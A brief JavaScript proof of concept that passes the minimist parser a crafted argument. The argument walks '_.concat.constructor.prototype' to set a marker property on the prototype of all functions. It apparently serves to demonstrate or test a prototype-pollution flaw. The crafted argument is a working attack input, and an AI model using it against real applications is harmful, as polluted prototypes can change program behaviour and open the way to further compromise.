'use strict';
// A tool parses the arguments it was called with.
const parse = require('minimist');

// `_` is the list of loose arguments: a method of it leads to Function, and on to the prototype of all functions.
parse(['--_.concat.constructor.prototype.proofhouse', 'polluted']);
